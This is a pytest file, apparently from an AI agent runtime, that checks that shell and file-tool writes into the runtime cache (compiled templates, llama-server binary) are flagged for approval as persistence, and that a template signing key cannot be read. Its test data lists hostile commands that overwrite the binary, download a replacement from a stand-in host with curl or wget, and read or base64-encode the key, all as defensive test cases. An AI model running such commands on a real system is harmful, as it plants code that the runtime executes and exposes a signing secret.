"""Issue 29, class 8: the per-user cache (`~/.cache/atomic-agent`, or `ATOMIC_AGENT_CACHE_DIR`)
holds code the runtime runs — compiled templates, llama-server binaries — so a write there
from any tool is a `persistence` question at level 4, however the destination is spelled;
its signing key is a runtime secret nobody reads. (That a planted compiled template is
never loaded is tests/prompt/test_prompt_assets.py.)
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from atomic_agent.api import ApprovalAnswer
from atomic_agent.plugins.os.fs_approval.classify_fs_mutation import PERSISTENCE_CATEGORY, classify_fs_mutation
from tests.plugins.os.fs_kit import FsWorld
from tests.plugins.os.shell_kit import shell, shell_world


@pytest.fixture(params=["default", "configured"])
def env(request: Any, tmp_path: Path, monkeypatch: Any) -> tuple[FsWorld, Path]:
    built = shell_world(tmp_path, monkeypatch, level=4)
    if request.param == "configured":
        cache = built.root / "elsewhere" / "aa-cache"
        monkeypatch.setenv("ATOMIC_AGENT_CACHE_DIR", str(cache))
    else:
        monkeypatch.delenv("ATOMIC_AGENT_CACHE_DIR", raising=False)
        monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
        cache = built.home / ".cache" / "atomic-agent"
    (cache / "templates").mkdir(parents=True)
    (cache / "llamacpp" / "bin").mkdir(parents=True)
    (cache / "template-key").write_bytes(b"k" * 32)
    return built, cache


SHELL_LINES = [
    "cp evil {C}/llamacpp/bin/llama-server", "cp -t {C}/llamacpp/bin evil", "mv evil {C}/templates/x.cache",
    "echo x > {C}/templates/__jinja2_x.cache", "cat evil >> {C}/llamacpp/bin/llama-server",
    "tee {C}/templates/a < evil", "install -m 755 evil {C}/llamacpp/bin/llama-server",
    "tar -C {C} -xf evil.tgz", "tar -xf evil.tgz --directory={C}/llamacpp", "unzip -d {C} evil.zip",
    "curl -o {C}/llamacpp/bin/llama-server https://x.example/b", "wget -O {C}/llamacpp/bin/x https://x.example/b",
    "gcc -o {C}/llamacpp/bin/llama-server evil.c", "cd {C}/llamacpp/bin && cp ~/evil llama-server",
    "ln -sf ~/evil {C}/llamacpp/bin/llama-server", "sed -i s/a/b/ {C}/templates/x", "rsync -a evil/ {C}/",
    "dd if=evil of={C}/llamacpp/bin/llama-server", "sh -c 'cp evil {C}/templates/y'",
]


@pytest.mark.parametrize("line", SHELL_LINES)
async def test_a_shell_write_into_the_runtime_cache_asks_under_persistence(env: tuple[FsWorld, Path], line: str):
    world, cache = env
    (world.ws / "evil").write_text("#!/bin/sh\n")
    outcome = await shell(world, line.format(C=cache))
    # persistence, or the stricter always-asking question when the line also nears the signing key
    assert outcome.asked in (("persistence",), ("shell_undecidable",)) and not outcome.ran, outcome


@pytest.mark.parametrize("rel", ["llamacpp/bin/llama-server", "templates/__jinja2_0.cache", "new/file"])
async def test_a_file_tool_write_into_the_runtime_cache_asks_under_persistence(env: tuple[FsWorld, Path], rel: str):
    world, cache = env
    world.asker.answers.append(ApprovalAnswer.deny())
    target = cache / rel
    result = await world.call("os.fs.write", {"path": str(target), "content": "x"})
    assert world.asker.categories[-1:] == ["persistence"] and result.status == "error"
    assert not target.exists()


def test_a_symlinked_path_into_the_cache_is_still_the_cache(env: tuple[FsWorld, Path]):
    world, cache = env
    (world.ws / "c").symlink_to(cache)
    got = classify_fs_mutation("write", [world.ws / "c" / "llamacpp" / "x"], world.ws, state_dirs=[world.state])
    assert got.category == PERSISTENCE_CATEGORY


@pytest.mark.parametrize("line", ["cat {C}/template-key", "xxd {C}/template-k?y", "cd {C} && base64 template-key"])
async def test_the_template_signing_key_is_never_read(env: tuple[FsWorld, Path], line: str):
    world, cache = env
    outcome = await shell(world, line.format(C=cache))
    assert outcome.blocked, outcome
    result = await world.call("os.fs.read", {"path": str(cache / "template-key")})
    assert result.status == "error" and "kkkk" not in result.summary
